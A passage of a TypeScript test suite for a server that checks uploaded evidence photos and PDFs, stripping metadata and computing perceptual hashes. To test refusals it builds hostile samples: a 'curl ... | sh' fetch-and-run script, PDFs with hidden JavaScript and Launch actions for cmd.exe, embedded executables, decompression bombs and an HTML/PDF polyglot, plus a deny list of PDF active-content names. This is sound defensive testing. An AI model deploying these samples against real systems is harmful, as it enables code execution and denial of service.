import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import zlib from 'node:zlib';
import { describe, it } from 'node:test';
import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { MAX_PDF_BYTES, MAX_PDF_INFLATED_BYTES, MAX_PHOTO_BYTES, MAX_PHOTO_PIXELS, MAX_STORED_PHOTO_EDGE } from '../src/evidence/files/fileLimits';
import { inspectFile, type FileRefusal, type FileRefusalReason, type InspectedFile } from '../src/evidence/files/inspectFile';
import { hammingDistance, perceptualHash, PHOTO_REUSE_MAX_DISTANCE } from '../src/evidence/files/perceptualHash';
import { sniffFileType } from '../src/evidence/files/sniffFileType';

/**
 * The server's check of an uploaded evidence file (src/evidence/files): hostile files made here, in the
 * test, so each case shows what it is. Photos come back as a fresh JPEG without metadata; anything that is
 * not what it claims, too big, too small, broken, or a PDF that could act on the officer's computer is
 * refused with a message for the agent. Then the perceptual hash: copies of a photo near, different photos far.
 */

// ---- Making files -----------------------------------------------------------------------------------------

/** A repeatable random sequence (mulberry32), so every run draws the same scenes. */
function seeded(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/**
 * A scene with something in it: a gradient behind eight rectangles and ellipses of random sizes and colours,
 * and sensor noise on top — enough layout for a perceptual hash to mean something.
 */
function scenePixels(seed: number, width = 640, height = 480): Buffer {
  const random = seeded(seed);
  const colour = () => [random() * 255, random() * 255, random() * 255];
  const top = colour();
  const bottom = colour();
  const shapes = Array.from({ length: 8 }, () => ({ ellipse: random() < 0.5, cx: random(), cy: random(), rx: 0.05 + random() * 0.25, ry: 0.05 + random() * 0.25, colour: colour() }));
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const t = y / height;
      let c = top.map((from, i) => from * (1 - t) + bottom[i] * t);
      for (const s of shapes) {
        const dx = (x / width - s.cx) / s.rx;
        const dy = (y / height - s.cy) / s.ry;
        if (s.ellipse ? dx * dx + dy * dy <= 1 : Math.abs(dx) <= 1 && Math.abs(dy) <= 1) c = s.colour;
      }
      const noise = (random() - 0.5) * 30;
      for (let i = 0; i < 3; i += 1) pixels[(y * width + x) * 3 + i] = Math.max(0, Math.min(255, c[i] + noise));
    }
  }
  return pixels;
}

const scene = (seed: number, width = 640, height = 480) => sharp(scenePixels(seed, width, height), { raw: { width, height, channels: 3 } });

/** A photo of the given size with detail in it (noise on grey). */
const noisy = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } } });

/** A photo of the given size in one colour: the quickest to make when only its size matters. */
const plain = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#4a6fa5' } });

/** A JPEG segment (marker and payload) to splice in after the start-of-image marker. */
function segment(marker: number, payload: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([head, payload]);
}

/** IPTC (a caption and a byline) in a Photoshop APP13 segment, as photo editors write it. */
function iptcSegment(): Buffer {
  const record = (tag: number, text: string) => Buffer.concat([Buffer.from([0x1c, 0x02, tag, 0, text.length]), Buffer.from(text)]);
  const iptc = Buffer.concat([record(0x78, 'Shop on Allen Avenue'), record(0x50, 'Agent 0042')]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(iptc.length);
  const padded = iptc.length % 2 ? Buffer.concat([iptc, Buffer.from([0])]) : iptc;
  return segment(0xed, Buffer.concat([Buffer.from('Photoshop 3.0\0'), Buffer.from('8BIM'), Buffer.from([0x04, 0x04, 0, 0]), size, padded]));
}

/** The markers of a JPEG up to its image data (APPn, COM, DQT, SOF, DHT, SOS…). */
function jpegMarkers(jpeg: Buffer): number[] {
  const markers: number[] = [];
  let at = 2;
  while (at + 4 <= jpeg.length) {
    assert.equal(jpeg[at], 0xff, `a marker at ${at}`);
    const marker = jpeg[at + 1];
    markers.push(marker);
    if (marker === 0xda) break;
    at += 2 + jpeg.readUInt16BE(at + 2);
  }
  return markers;
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k += 1) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let c = 0xffffffff;
  for (const byte of bytes) c = crcTable[(c ^ byte) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A PDF from its objects' bodies (object 1 the catalog), with a cross-reference table and a trailer. */
function buildPdf(objects: Array<string | Buffer>, options: { trailer?: string; eof?: boolean } = {}): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0].length;
  objects.forEach((body, i) => {
    const object = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n')]);
    offsets.push(length);
    parts.push(object);
    length += object.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${length}\n${options.eof === false ? '' : '%%EOF\n'}`;
  return Buffer.concat([...parts, Buffer.from(xref + trailer, 'latin1')]);
}

/** A stream object's body: its dictionary (with /Length added) and data. */
function stream(dict: string, data: Buffer | string): Buffer {
  const bytes = Buffer.isBuffer(data) ? data : Buffer.from(data, 'latin1');
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`), bytes, Buffer.from('\nendstream')]);
}

/** An object stream holding `objects` (number → body), Flate-compressed unless told otherwise. */
function objectStream(objects: Record<number, string>, dictExtra = '/Type /ObjStm', compress: (data: Buffer) => Buffer = zlib.deflateSync, filter = '/FlateDecode'): Buffer {
  const bodies = Object.entries(objects);
  let offset = 0;
  const index: string[] = [];
  for (const [number, body] of bodies) {
    index.push(`${number} ${offset}`);
    offset += body.length + 1;
  }
  const header = `${index.join(' ')}\n`;
  const content = Buffer.from(header + bodies.map(([, body]) => body).join('\n') + '\n', 'latin1');
  return stream(`${dictExtra} /N ${bodies.length} /First ${header.length} /Filter ${filter}`, compress(content));
}

/** A one-page police report: a catalog, pages, a page with a compressed content stream, a font; `extra` objects from 6 on. */
function policeReportPdf(options: { catalogExtra?: string; extra?: Array<string | Buffer>; trailer?: string; eof?: boolean } = {}): Buffer {
  return buildPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalogExtra ?? ''}>>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
      stream('/Filter /FlateDecode', zlib.deflateSync(Buffer.from('BT /F1 18 Tf 72 760 Td (Nigeria Police Force - Extract of Crime Diary) Tj ET'))),
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...(options.extra ?? []),
    ],
    options,
  );
}

/** A police report as a real PDF library writes one: text, a scanned stamp (an image), object streams. */
async function libraryPdf(change?: (doc: PDFDocument) => Promise<void> | void): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595, 842]);
  const font = await doc.embedFont(StandardFonts.Helvetica);
  page.drawText('Nigeria Police Force - Extract of Crime Diary', { x: 72, y: 760, size: 16, font });
  const stamp = await doc.embedPng(await noisy(120, 120).png().toBuffer());
  page.drawImage(stamp, { x: 72, y: 600, width: 120, height: 120 });
  await change?.(doc);
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}

// ---- Checking answers -------------------------------------------------------------------------------------

function accepted(result: InspectedFile | FileRefusal): InspectedFile {
  assert.ok(result.ok, `expected the file to be accepted, got ${result.ok ? '' : `${result.reason}: ${result.message}`}`);
  return result;
}

function refused(result: InspectedFile | FileRefusal, reason: FileRefusalReason): FileRefusal {
  assert.equal(result.ok, false, `expected a refusal (${reason}), the file was accepted`);
  const refusal = result as FileRefusal;
  assert.equal(refusal.reason, reason, refusal.message);
  assert.match(refusal.message, /^[A-Z].{10,160}\.$/, 'a sentence for the agent');
  return refusal;
}

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

// ---- Photos -----------------------------------------------------------------------------------------------

describe('inspectFile: photos', () => {
  it('writes a good photo again as a JPEG with no EXIF, GPS, serial, XMP, IPTC, ICC profile or comment', async () => {
    const camera = await scene(1, 900, 700)
      .withIccProfile('p3')
      .withExif({
        IFD0: { Make: 'TestPhone', Model: 'X1', Software: 'CameraApp 1.0' },
        IFD2: { BodySerialNumber: 'SERIAL-998877' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '6/1 27/1 3/1', GPSLongitudeRef: 'E', GPSLongitude: '3/1 23/1 5/1' },
      })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="EditorApp"/></rdf:RDF></x:xmpmeta>')
      .jpeg({ quality: 92 })
      .toBuffer();
    // An IPTC block and a comment spliced in after the start-of-image marker, as other tools write them.
    const input = Buffer.concat([camera.subarray(0, 2), iptcSegment(), segment(0xfe, Buffer.from('taken at 6.4508N 3.3841E')), camera.subarray(2)]);
    const before = await sharp(input).metadata();
    assert.ok(before.exif && before.icc && before.xmp && before.iptc, 'the input carries every kind of metadata');

    const photo = accepted(await inspectFile(input, 'photo'));
    assert.equal(photo.mime, 'image/jpeg');
    assert.equal(photo.extension, 'jpg');
    assert.equal(sniffFileType(photo.bytes), 'jpeg');
    assert.deepEqual([photo.width, photo.height], [900, 700]);
    assert.equal(photo.sha256, sha256(photo.bytes));
    assert.match(photo.phash ?? '', /^[0-9a-f]{16}$/);
    assert.equal(photo.phash, await perceptualHash(photo.bytes), 'the hash is of the stored photo');
    assert.notDeepEqual(photo.bytes, input);

    const after = await sharp(photo.bytes).metadata();
    assert.equal(after.format, 'jpeg');
    assert.equal(after.exif, undefined);
    assert.equal(after.icc, undefined);
    assert.equal(after.xmp, undefined);
    assert.equal(after.iptc, undefined);
    assert.equal(after.orientation, undefined);
    // Byte by byte: before the image data, only JFIF (APP0) and the tables that decode it.
    const kept = jpegMarkers(photo.bytes).filter((marker) => (marker >= 0xe1 && marker <= 0xef) || marker === 0xfe);
    assert.deepEqual(kept, [], 'no APP1–APP15 (EXIF, XMP, ICC, IPTC) and no comment');
    for (const text of ['TestPhone', 'SERIAL-998877', 'CameraApp', 'EditorApp', 'Allen Avenue', '6.4508N']) assert.equal(photo.bytes.includes(text), false, text);
  });

  it('accepts a PNG and a WebP and stores each as a JPEG (a transparent PNG on white)', async () => {
    const transparent = await sharp({ create: { width: 400, height: 300, channels: 4, background: { r: 0, g: 0, b: 0, alpha: 0 } } })
      .composite([{ input: await scene(2, 200, 150).png().toBuffer(), left: 100, top: 75 }])
      .png()
      .toBuffer();
    const png = accepted(await inspectFile(transparent, 'photo'));
    assert.equal(sniffFileType(png.bytes), 'jpeg');
    assert.equal((await sharp(png.bytes).metadata()).format, 'jpeg');
    const corner = await sharp(png.bytes).extract({ left: 0, top: 0, width: 1, height: 1 }).raw().toBuffer();
    assert.ok(corner.every((value) => value > 240), `transparent becomes white, not black (${[...corner]})`);

    const webp = accepted(await inspectFile(await scene(3, 500, 400).webp({ quality: 80 }).toBuffer(), 'photo-or-pdf'));
    assert.equal(webp.mime, 'image/jpeg');
    assert.deepEqual([webp.width, webp.height, (await sharp(webp.bytes).metadata()).format], [500, 400, 'jpeg']);
  });

  it('turns a photo the right way up by its EXIF orientation', async () => {
    // Stored sideways as the sensor saw it, tagged "rotate 90° clockwise to view": the agent held it upright.
    const sideways = await scene(4, 640, 480).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    assert.equal((await sharp(sideways).metadata()).orientation, 6);
    const photo = accepted(await inspectFile(sideways, 'photo'));
    assert.deepEqual([photo.width, photo.height], [480, 640], 'portrait');
    assert.equal((await sharp(photo.bytes).metadata()).orientation, undefined);
  });

  it('scales a large photo down to the longest side kept, and never scales a small one up', async () => {
    const large = accepted(await inspectFile(await plain(4000, 3000).jpeg().toBuffer(), 'photo'));
    assert.deepEqual([large.width, large.height], [MAX_STORED_PHOTO_EDGE, 1536]);
    const small = accepted(await inspectFile(await plain(300, 250).jpeg().toBuffer(), 'photo'));
    assert.deepEqual([small.width, small.height], [300, 250]);
  });

  it('refuses a decompression bomb on its header, without decoding it', async () => {
    // A PNG a few hundred bytes long that declares 20000 × 20000 pixels (400 MP, 1.2 GB decoded). Its pixel
    // data is a stub, so had the server tried to decode it the answer would be "unreadable", not "too big".
    const header = Buffer.alloc(13);
    header.writeUInt32BE(20_000, 0);
    header.writeUInt32BE(20_000, 4);
    header[8] = 8; // 8 bits a sample, greyscale
    const pngBomb = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(20_001 * 4))), pngChunk('IEND', Buffer.alloc(0))]);
    assert.ok(20_000 * 20_000 > MAX_PHOTO_PIXELS);
    refused(await inspectFile(pngBomb, 'photo'), 'image-too-big');

    // A real JPEG whose frame header is rewritten to claim 60000 × 60000.
    const jpeg = await plain(400, 300).jpeg().toBuffer();
    const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    assert.ok(sof > 0);
    const jpegBomb = Buffer.from(jpeg);
    jpegBomb.writeUInt16BE(60_000, sof + 5);
    jpegBomb.writeUInt16BE(60_000, sof + 7);
    refused(await inspectFile(jpegBomb, 'photo'), 'image-too-big');
  });

  it('refuses a photo too small to see, and a strip that is too thin once scaled down', async () => {
    refused(await inspectFile(await plain(150, 150).jpeg().toBuffer(), 'photo'), 'image-too-small');
    refused(await inspectFile(await plain(1000, 120).png().toBuffer(), 'photo'), 'image-too-small');
    // 6000 × 300 is wide enough, but stored at 2048 × 102.
    refused(await inspectFile(await plain(6000, 300).jpeg().toBuffer(), 'photo'), 'image-too-small');
  });

  it('refuses programs, scripts, archives and other files renamed as photos', async () => {
    const disguised: Record<string, Buffer> = {
      'a Windows program (MZ)': Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.from('This program cannot be run in DOS mode.'), Buffer.alloc(512)]),
      'a Linux program (ELF)': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(512, 1)]),
      'a shell script': Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'),
      'a zip archive': Buffer.concat([Buffer.from('PK\x03\x04\x14\x00\x00\x00\x08\x00', 'latin1'), Buffer.alloc(200, 7)]),
      'an SVG with a script (an image sharp would open)': Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><script>alert(1)</script><rect width="800" height="600"/></svg>'),
      'a web page': Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>'),
      'a video (MP4)': Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41', 'latin1'), Buffer.alloc(300)]),
      'a GIF': await plain(300, 300).gif().toBuffer(),
      'a TIFF': await plain(300, 300).tiff().toBuffer(),
    };
    for (const [what, bytes] of Object.entries(disguised)) {
      assert.equal(sniffFileType(bytes), 'unknown', what);
      refused(await inspectFile(bytes, 'photo'), 'not-a-photo');
      refused(await inspectFile(bytes, 'photo-or-pdf'), 'not-a-photo-or-pdf');
    }
  });

  it('refuses a file with a photo’s first bytes that is not a whole photo', async () => {
    const good = await scene(5).jpeg().toBuffer();
    const random = seeded(99);
    const garbage = Buffer.from(Array.from({ length: 20_000 }, () => Math.floor(random() * 256)));
    refused(await inspectFile(Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), garbage]), 'photo'), 'unreadable-image');
    refused(await inspectFile(Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), garbage]), 'photo'), 'unreadable-image');
    refused(await inspectFile(Buffer.concat([Buffer.from('RIFF\x00\x10\x00\x00WEBPVP8 ', 'latin1'), garbage]), 'photo'), 'unreadable-image');
    // Cut off on the way: the header is whole, the pixels stop part way.
    refused(await inspectFile(good.subarray(0, Math.floor(good.length * 0.6)), 'photo'), 'unreadable-image');
    refused(await inspectFile(good.subarray(0, 400), 'photo'), 'unreadable-image');
  });

  it('refuses an empty file and one over the size limit (before opening it)', async () => {
    refused(await inspectFile(Buffer.alloc(0), 'photo'), 'empty');
    refused(await inspectFile(Buffer.alloc(0), 'photo-or-pdf'), 'empty');
    const oversized = Buffer.concat([await plain(300, 300).jpeg().toBuffer(), Buffer.alloc(MAX_PHOTO_BYTES)]);
    assert.match(refused(await inspectFile(oversized, 'photo'), 'too-large').message, /10 MB/);
  });

  it('handles HEIC as this build of sharp can: refused with a way forward unless it decodes HEIC', async () => {
    // An iPhone's "High Efficiency" photo: an ftyp box with the heic brand (the rest is not a real picture).
    const heic = Buffer.concat([Buffer.from('\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic', 'latin1'), Buffer.alloc(2000, 3)]);
    assert.equal(sniffFileType(heic), 'heic');
    const decodesHeic = sharp.format.heif?.input.fileSuffix?.includes('.heic') ?? false;
    if (decodesHeic) refused(await inspectFile(heic, 'photo'), 'unreadable-image');
    else assert.match(refused(await inspectFile(heic, 'photo'), 'heic-not-supported').message, /HEIC.*Take the photo again/);

    // AVIF is HEIF too, in a compression sharp's own binaries decode: opened when it can be.
    const avif = await scene(6, 320, 240).avif({ quality: 60, effort: 0 }).toBuffer();
    assert.equal(sniffFileType(avif), 'avif');
    const decodesAvif = sharp.format.heif?.input.fileSuffix?.includes('.avif') ?? false;
    if (decodesAvif) assert.equal(sniffFileType(accepted(await inspectFile(avif, 'photo')).bytes), 'jpeg');
    else refused(await inspectFile(avif, 'photo'), 'heic-not-supported');
  });
});

// ---- PDFs -------------------------------------------------------------------------------------------------

describe('inspectFile: PDFs', () => {
  it('stores a clean police report as it came, only where a PDF is accepted', async () => {
    const pdf = policeReportPdf();
    const stored = accepted(await inspectFile(pdf, 'photo-or-pdf'));
    assert.deepEqual([stored.mime, stored.extension], ['application/pdf', 'pdf']);
    assert.ok(stored.bytes.equals(pdf), 'byte for byte');
    assert.equal(stored.sha256, sha256(pdf));
    assert.equal(stored.phash, undefined);
    assert.match(refused(await inspectFile(pdf, 'photo'), 'not-a-photo').message, /PDF/);
  });

  it('stores a clean report written by a PDF library, with its object streams and an image', async () => {
    const pdf = await libraryPdf();
    assert.ok(pdf.includes('/ObjStm'), 'the file keeps its dictionaries in object streams');
    accepted(await inspectFile(pdf, 'photo-or-pdf'));
  });

  it('refuses a script, however its name is spelt and wherever it is kept', async () => {
    const script = policeReportPdf({ catalogExtra: '/OpenAction 6 0 R', extra: ['<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>'] });
    assert.match(refused(await inspectFile(script, 'photo-or-pdf'), 'pdf-active-content').message, /scripts or attachments.*photo of the police report/);

    // Name escapes: #61 is "a", #53 is "S".
    const escaped = policeReportPdf({ catalogExtra: '/OpenAction 6 0 R', extra: ['<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'] });
    assert.equal(escaped.includes('JavaScript'), false);
    refused(await inspectFile(escaped, 'photo-or-pdf'), 'pdf-active-content');

    // A document-level script, its code in a stream of its own.
    const named = policeReportPdf({ catalogExtra: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>', extra: ['<< /S /JavaScript /JS 7 0 R >>', stream('', 'app.alert(1)')] });
    refused(await inspectFile(named, 'photo-or-pdf'), 'pdf-active-content');

    // A script started by a page being shown (additional actions), with no other suspicious word in plain sight.
    const onOpen = policeReportPdf({ extra: ['<< /Type /Page /AA << /O 7 0 R >> >>', '<< /S /Named /N /NextPage >>'] });
    refused(await inspectFile(onOpen, 'photo-or-pdf'), 'pdf-active-content');
  });

  it('refuses a script hidden in a compressed object stream, and passes the same file without it', async () => {
    const hidden = policeReportPdf({ catalogExtra: '/OpenAction 6 0 R', extra: [objectStream({ 6: '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>' })] });
    assert.equal(hidden.includes('/JS'), false, 'nothing in plain sight');
    refused(await inspectFile(hidden, 'photo-or-pdf'), 'pdf-active-content');

    const harmless = policeReportPdf({ catalogExtra: '/OpenAction 6 0 R', extra: [objectStream({ 6: '<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>' })] });
    accepted(await inspectFile(harmless, 'photo-or-pdf'));

    // An object stream that does not say /Type /ObjStm (pdf.js reads it from /N and /First alone).
    const untyped = policeReportPdf({ extra: [objectStream({ 7: '<< /S /JavaScript /JS (x) >>' }, '')] });
    refused(await inspectFile(untyped, 'photo-or-pdf'), 'pdf-active-content');

    // An object stream inside an object stream (pdf.js reads a stream there): its inner script is compressed twice.
    const inner = objectStream({ 8: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' });
    const nested = policeReportPdf({ extra: [objectStream({ 7: inner.toString('latin1') })] });
    refused(await inspectFile(nested, 'photo-or-pdf'), 'unreadable-pdf');

    // A script action a PDF library stored in its object streams.
    const library = await libraryPdf((doc) => {
      doc.catalog.set(PDFName.of('OpenAction'), doc.context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of('app.alert(1)') }));
    });
    assert.equal(library.includes('JavaScript'), false, 'the action is compressed out of sight');
    refused(await inspectFile(library, 'photo-or-pdf'), 'pdf-active-content');
  });

  it('refuses each kind of active content, and lets plain links, forms and "open at page 1" through', async () => {
    const refusedNames = ['JavaScript', 'JS', 'AA', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'GoToE', 'EmbeddedFiles', 'EmbeddedFile', 'FileAttachment', 'EF', 'XFA', 'RichMedia'];
    for (const name of refusedNames) {
      const pdf = policeReportPdf({ extra: [`<< /${name} 7 0 R >>`, '<< /S /GoTo /D [3 0 R /Fit] >>'] });
      assert.equal((await inspectFile(pdf, 'photo-or-pdf')).ok, false, `/${name} is refused`);
      refused(await inspectFile(pdf, 'photo-or-pdf'), 'pdf-active-content');
    }
    const allowed = policeReportPdf({
      catalogExtra: '/OpenAction [3 0 R /Fit] /AcroForm << /Fields [] >>',
      extra: ['<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://npf.gov.ng) >> >>'],
    });
    accepted(await inspectFile(allowed, 'photo-or-pdf'));
  });

  it('refuses a PDF that starts a program or carries another file', async () => {
    const launch = policeReportPdf({ catalogExtra: '/OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\cmd.exe) >>' });
    refused(await inspectFile(launch, 'photo-or-pdf'), 'pdf-active-content');

    const attached = await libraryPdf(async (doc) => {
      await doc.attach(Buffer.from('MZ not really a program'), 'statement.exe', { mimeType: 'application/octet-stream', description: 'Statement' });
    });
    refused(await inspectFile(attached, 'photo-or-pdf'), 'pdf-active-content');

    const handMade = policeReportPdf({
      catalogExtra: '/Names << /EmbeddedFiles << /Names [(statement.exe) 6 0 R] >> >>',
      extra: ['<< /Type /Filespec /F (statement.exe) /EF << /F 7 0 R >> >>', stream('/Type /EmbeddedFile', 'MZ')],
    });
    refused(await inspectFile(handMade, 'photo-or-pdf'), 'pdf-active-content');
  });

  it('refuses a PDF cut short, locked, or in parts the check cannot read', async () => {
    const whole = policeReportPdf();
    assert.match(refused(await inspectFile(policeReportPdf({ eof: false }), 'photo-or-pdf'), 'unreadable-pdf').message, /damaged or incomplete/);
    refused(await inspectFile(whole.subarray(0, Math.floor(whole.length / 2)), 'photo-or-pdf'), 'unreadable-pdf');
    refused(await inspectFile(Buffer.from('%PDF-\n%%EOF'), 'photo-or-pdf'), 'unreadable-pdf');
    // Well formed, but nothing in it to show.
    refused(await inspectFile(buildPdf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>']), 'photo-or-pdf'), 'unreadable-pdf');

    const locked = policeReportPdf({ trailer: '/Encrypt 6 0 R /ID [<00><00>] ', extra: ['<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>'] });
    assert.match(refused(await inspectFile(locked, 'photo-or-pdf'), 'unreadable-pdf').message, /locked or protected/);

    // An object stream in a compression the check does not decode could hide anything.
    const hex = policeReportPdf({ extra: [objectStream({ 6: '<< /S /GoTo /D [3 0 R /Fit] >>' }, '/Type /ObjStm', (data) => Buffer.from(`${data.toString('hex')}>`), '/ASCIIHexDecode')] });
    assert.match(refused(await inspectFile(hex, 'photo-or-pdf'), 'unreadable-pdf').message, /cannot be checked/);

    // A zip bomb: a few kB of object stream that inflates past the limit.
    const bomb = policeReportPdf({ extra: [stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, zlib.deflateSync(Buffer.alloc(MAX_PDF_INFLATED_BYTES + 1, 0x20)))] });
    assert.ok(bomb.length < 100_000);
    refused(await inspectFile(bomb, 'photo-or-pdf'), 'unreadable-pdf');

    // A stream whose dictionary the check cannot read (a stray parenthesis) is not taken on trust.
    const unreadableDict = policeReportPdf({ extra: [Buffer.concat([Buffer.from('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode ) >>\nstream\n'), zlib.deflateSync(Buffer.from('6 0 << /S /JavaScript >>')), Buffer.from('\nendstream')])] });
    refused(await inspectFile(unreadableDict, 'photo-or-pdf'), 'unreadable-pdf');
  });

  it('refuses a PDF with anything before its header, and one over the size limit', async () => {
    // Readers allow 1024 bytes before %PDF-; that is how one file is both a web page and a PDF.
    const polyglot = Buffer.concat([Buffer.from('<html><script>alert(1)</script></html>\n'), policeReportPdf()]);
    refused(await inspectFile(polyglot, 'photo-or-pdf'), 'not-a-photo-or-pdf');
    const oversized = policeReportPdf({ extra: [stream('', Buffer.alloc(MAX_PDF_BYTES, 0x20))] });
    assert.match(refused(await inspectFile(oversized, 'photo-or-pdf'), 'too-large').message, /PDF.*10 MB/);
  });
});

// ---- Perceptual hash --------------------------------------------------------------------------------------

describe('perceptualHash', () => {
  const SEEDS = [11, 12, 13, 14, 15, 16];
  const stored = new Map<number, { photo: Buffer; hash: string }>();
  const storedScene = async (seed: number) => {
    if (!stored.has(seed)) {
      const photo = accepted(await inspectFile(await scene(seed).jpeg({ quality: 90 }).toBuffer(), 'photo'));
      stored.set(seed, { photo: photo.bytes, hash: photo.phash as string });
    }
    return stored.get(seed) as { photo: Buffer; hash: string };
  };

  it('counts differing bits, and refuses anything but 16 lowercase hex digits', () => {
    assert.equal(hammingDistance('0123456789abcdef', '0123456789abcdef'), 0);
    assert.equal(hammingDistance('0000000000000000', 'ffffffffffffffff'), 64);
    assert.equal(hammingDistance('0000000000000000', '8000000000000001'), 2);
    assert.throws(() => hammingDistance('0123', '0123'));
    assert.throws(() => hammingDistance('0123456789ABCDEF', '0123456789abcdef'));
  });

  it('is the DCT pHash: the 8 × 8 lowest frequencies but the first row and column, each above or below their median', async () => {
    // A 32 × 32 grey picture needs no resizing, so the hash can be worked out here the slow way.
    const random = seeded(7);
    const grey = Buffer.from(Array.from({ length: 32 * 32 }, (_, i) => Math.floor(128 + 60 * Math.sin(i / 37) + 60 * random())));
    const cos = (k: number, n: number) => Math.cos(((2 * n + 1) * k * Math.PI) / 64);
    const coefficients: number[] = [];
    for (let u = 1; u <= 8; u += 1) {
      for (let v = 1; v <= 8; v += 1) {
        let sum = 0;
        for (let y = 0; y < 32; y += 1) for (let x = 0; x < 32; x += 1) sum += grey[y * 32 + x] * cos(u, y) * cos(v, x);
        coefficients.push(sum);
      }
    }
    const sorted = [...coefficients].sort((a, b) => a - b);
    const median = (sorted[31] + sorted[32]) / 2;
    const bits = coefficients.map((c) => (c > median ? '1' : '0')).join('');
    const expected = BigInt(`0b${bits}`).toString(16).padStart(16, '0');
    assert.equal(await perceptualHash(await sharp(grey, { raw: { width: 32, height: 32, channels: 1 } }).png().toBuffer()), expected);
  });

  it('finds the same photo sent again re-compressed and resized', async () => {
    for (const seed of SEEDS) {
      const { photo, hash } = await storedScene(seed);
      const copy = accepted(await inspectFile(await sharp(photo).resize(384).jpeg({ quality: 45 }).toBuffer(), 'photo'));
      const distance = hammingDistance(hash, copy.phash as string);
      assert.ok(distance <= PHOTO_REUSE_MAX_DISTANCE, `scene ${seed}: ${distance} bits apart`);
    }
  });

  it('finds the same photo edited: cropped a little at the edges, brightened, compressed again', async () => {
    for (const seed of SEEDS) {
      const { photo, hash } = await storedScene(seed);
      // 2% off each side, 10% brighter, a touch more contrast: what a gallery app's "auto enhance" does.
      const edited = await sharp(photo).extract({ left: 13, top: 10, width: 614, height: 460 }).modulate({ brightness: 1.1 }).linear(1.1, -10).jpeg({ quality: 70 }).toBuffer();
      const copy = accepted(await inspectFile(edited, 'photo'));
      const distance = hammingDistance(hash, copy.phash as string);
